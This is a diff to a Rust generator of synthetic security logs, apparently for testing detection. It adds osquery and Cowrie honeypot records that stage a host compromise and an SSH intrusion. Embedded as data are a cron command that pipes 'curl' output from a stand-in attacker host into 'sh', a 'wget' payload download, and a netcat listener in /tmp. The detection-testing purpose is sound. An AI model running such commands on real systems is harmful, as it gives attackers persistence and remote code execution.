@@ -20,6 +20,13 @@
 //! severity-1 alert, a VPC flow REJECT to RDP, an M365 "activity performed by terminated
 //! user" alert and a GCP DLP re-identification.
 //!
+//! With `hosts: true`, one background record in ten is host state from osquery (snapshot rows of
+//! `processes` on the Linux hosts) or a Cowrie honeypot session step (bots connecting and failing
+//! to log in), and every block carries at positions 600-650: on a Linux host, osquery differential
+//! results for a listening port opened by a binary in `/tmp`, a local user added, a cron autorun
+//! added, a binary written to `/tmp` and a development server's port opened (closed at 650); and on the honeypot an SSH
+//! session that fails, then succeeds to log in as root, types commands and downloads a file.
+//!
 //! With `malformed_every: N`, one record in N is deliberately broken (truncated JSON,
 //! truncated syslog, invalid UTF-8, a bad timestamp, unknown text) to exercise quarantine.
 
@@ -70,6 +77,12 @@ pub struct GeneratorConfig {
     /// attack per source at positions 500-507 of every block.
     #[serde(default)]
     pub cloud: bool,
+    /// Also produce host state and honeypot logs: osquery scheduled-query results (event
+    /// format; differential rows `added` / `removed` and snapshot rows) and Cowrie JSON (one
+    /// background record in ten), with a host compromise and a honeypot session at positions
+    /// 600-650 of every block.
+    #[serde(default)]
+    pub hosts: bool,
 }
 
 #[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize, JsonSchema)]
@@ -277,6 +290,15 @@ impl Generator {
         if self.config.scenarios && self.scenario(block, p, ts, k, &mut rng) {
             return;
         }
+        if self.config.hosts {
+            if self.config.scenarios && (600..=650).contains(&p) && self.host_attack(p - 600, block, ts) {
+                return;
+            }
+            if rng.below(10) == 0 {
+                self.host_benign(ts, k, &mut rng);
+                return;
+            }
+        }
         if self.config.cloud {
             if self.config.scenarios && (500..=507).contains(&p) {
                 self.cloud_attack(p - 500, ts, k);
@@ -368,6 +390,99 @@ impl Generator {
                 "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
             ),
             (3, 416) => self.syslog_line(ts, "bastion", "usermod", Some(31337), "add 'deploy' to group 'sudo'"),
+            _ => return false,
+        }
+        true
+    }
+
+    /// One osquery result row in the event format (`action`: added, removed or snapshot).
+    fn osquery(&mut self, ts: i64, host: &str, query: &str, action: &str, columns: &str) {
+        let _ = write!(
+            self.buf,
+            r#"{{"name":"pack_ward-lab_{query}","hostIdentifier":"{host}","calendarTime":"","unixTime":{},"epoch":0,"counter":1,"numerics":false,"columns":{columns},"action":"{action}"}}"#,
+            ts.div_euclid(1000)
+        );
+    }
+
+    /// One Cowrie JSON log line of session `session`; `extra`: the event's own fields.
+    fn cowrie(&mut self, ts: i64, session: &str, src: &str, eventid: &str, extra: &str) {
+        let _ = write!(self.buf, r#"{{"eventid":"{eventid}","timestamp":""#);
+        self.win_time(ts);
+        let _ = write!(
+            self.buf,
+            r#"","sensor":"honeypot-01","src_ip":"{src}","src_port":{},"dst_ip":"10.0.9.10","dst_port":22,"session":"{session}","protocol":"ssh"{extra}}}"#,
+            40000 + (ts.rem_euclid(20000))
+        );
+    }
+
+    /// Host state and honeypot background: process snapshots and bots failing to log in.
+    fn host_benign(&mut self, ts: i64, k: u64, rng: &mut Rng) {
+        if rng.below(2) == 0 {
+            let host = rng.pick(LINUX_HOSTS);
+            let (name, path) = [("sshd", "/usr/sbin/sshd"), ("nginx", "/usr/sbin/nginx"), ("cron", "/usr/sbin/cron")]
+                [rng.below(3) as usize];
+            let pid = 100 + rng.below(30000);
+            self.osquery(
+                ts,
+                host,
+                "processes",
+                "snapshot",
+                &format!(r#"{{"pid":"{pid}","name":"{name}","path":"{path}","cmdline":"{path}","parent":"1"}}"#),
+            );
+        } else {
+            let session = format!("{:012x}", mix(k / 3) & 0xffff_ffff_ffff);
+            let src = format!("198.51.100.{}", 1 + (mix(k / 3) % 250));
+            match k % 3 {
+                0 => self.cowrie(ts, &session, &src, "cowrie.session.connect", r#","message":"New connection""#),
+                1 => {
+                    let user = ["admin", "root", "pi", "ubnt"][rng.below(4) as usize];
+                    self.cowrie(ts, &session, &src, "cowrie.login.failed", &format!(r#","username":"{user}","password":"{user}123""#))
+                }
+                _ => self.cowrie(ts, &session, &src, "cowrie.session.closed", r#","duration":2.5"#),
+            }
+        }
+    }
+
+    /// Position `p` (0-50) of a block's host compromise and honeypot session; false where
+    /// the block has nothing.
+    fn host_attack(&mut self, p: u64, block: u64, ts: i64) -> bool {
+        let host = LINUX_HOSTS[(block % LINUX_HOSTS.len() as u64) as usize];
+        let session = format!("{:012x}", mix(block ^ 0x5e55_1011) & 0xffff_ffff_ffff);
+        let src = TI_IP;
+        let port = r#"{"address":"0.0.0.0","port":"4444","pid":"31337","protocol":"6","path":"/tmp/.x/nc","name":"nc"}"#;
+        let dev_server = r#"{"address":"0.0.0.0","port":"8080","pid":"2210","protocol":"6","path":"/usr/bin/python3","name":"python3"}"#;
+        match p {
+            0 => self.osquery(ts, host, "listening_ports", "added", port),
+            1 => self.osquery(ts, host, "users", "added", r#"{"username":"sysupdate","uid":"1337","gid":"1337","shell":"/bin/bash","directory":"/var/tmp/.u"}"#),
+            2 => self.osquery(
+                ts,
+                host,
+                "crontab",
+                "added",
+                r#"{"name":"sysupdate","path":"/etc/cron.d/sysupdate","command":"curl -s http://update-check.badcdn.example/u | sh"}"#,
+            ),
+            3 => self.osquery(ts, host, "tmp_binaries", "added", r#"{"path":"/tmp/.x/nc","filename":"nc","size":"38912"}"#),
+            4 => self.osquery(ts, host, "listening_ports", "added", dev_server),
+            10 => self.cowrie(ts, &session, src, "cowrie.session.connect", r#","message":"New connection""#),
+            11..=13 => self.cowrie(ts, &session, src, "cowrie.login.failed", r#","username":"root","password":"toor""#),
+            14 => self.cowrie(ts, &session, src, "cowrie.login.success", r#","username":"root","password":"123456""#),
+            15 => self.cowrie(ts, &session, src, "cowrie.command.input", r#","input":"uname -a""#),
+            16 => self.cowrie(
+                ts,
+                &session,
+                src,
+                "cowrie.command.input",
+                r#","input":"wget http://update-check.badcdn.example/x.sh -O /tmp/x.sh""#,
+            ),
+            17 => self.cowrie(
+                ts,
+                &session,
+                src,
+                "cowrie.session.file_download",
+                r#","url":"http://update-check.badcdn.example/x.sh","shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","outfile":"var/lib/cowrie/downloads/9f86d081""#,
+            ),
+            18 => self.cowrie(ts, &session, src, "cowrie.session.closed", r#","duration":31.2"#),
+            50 => self.osquery(ts, host, "listening_ports", "removed", dev_server),
             _ => return false,
         }
         true
@@ -887,6 +1002,7 @@ mod tests {
             malformed_every,
             windows_shape: WindowsShape::EvtxJson,
             cloud: false,
+            hosts: false,
         };
         Generator::new("gen".into(), cfg, 1_767_600_000_000, worker, workers)
     }
@@ -936,6 +1052,25 @@ mod tests {
         assert!(text(1200).contains("-EncodedCommand"));
         assert!(text(2300).contains("dstip=185.220.101.10") && text(2300).contains("dstport=445"));
         assert!(text(3415).contains("sudo: deploy"));
+    }
+
+    #[test]
+    fn host_state_and_honeypot_records_when_asked() {
+        let mut g = gen(1, 0, 2000, 0);
+        g.config.hosts = true;
+        let recs = drain(&mut g);
+        let text = |k: usize| String::from_utf8_lossy(&recs[k].1).into_owned();
+        assert!(text(600).contains(r#""name":"pack_ward-lab_listening_ports""#) && text(600).contains(r#""action":"added""#));
+        assert!(text(601).contains(r#""username":"sysupdate""#));
+        assert!(text(614).contains(r#""eventid":"cowrie.login.success""#));
+        assert!(text(617).contains("cowrie.session.file_download"));
+        assert!(text(650).contains(r#""action":"removed""#) && text(650).contains(r#""port":"8080""#));
+        assert!(text(1600).contains(r#""hostIdentifier":"web-02""#), "the next block's host");
+        let background = recs.iter().filter(|(_, r)| r.starts_with(br#"{"name":"pack_"#) || r.starts_with(br#"{"eventid""#));
+        assert!(background.count() > 100, "about one background record in ten");
+        // Off by default: the stream is what it was.
+        let plain = drain(&mut gen(1, 0, 2000, 0));
+        assert!(plain.iter().all(|(_, r)| !r.starts_with(br#"{"eventid""#)));
     }
 
     #[test]
